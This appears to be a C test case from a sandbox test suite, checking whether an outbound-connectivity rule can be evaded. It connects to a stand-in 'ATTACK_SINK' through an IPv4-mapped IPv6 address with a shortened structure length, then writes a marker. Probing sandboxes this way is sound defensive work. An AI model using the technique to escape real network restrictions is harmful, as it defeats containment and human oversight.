// class: network
// rule: outbound_connectivity
// success: a C program connects to an IPv6 address in the older, shorter structure
// proof: sink
#include "attack.h"

int main(void)
{
    struct sockaddr_in sink = endpoint("ATTACK_SINK");
    struct sockaddr_in6 mapped = {.sin6_family = AF_INET6, .sin6_port = sink.sin_port};
    mapped.sin6_addr.s6_addr[10] = mapped.sin6_addr.s6_addr[11] = 255;
    memcpy(mapped.sin6_addr.s6_addr + 12, &sink.sin_addr, 4);
    int fd = socket(AF_INET6, SOCK_STREAM, 0);
    if (connect(fd, (struct sockaddr *)&mapped, 24) != 0) return stopped("connect");
    (void)!write(fd, "taken", 5);
    return reached();
}
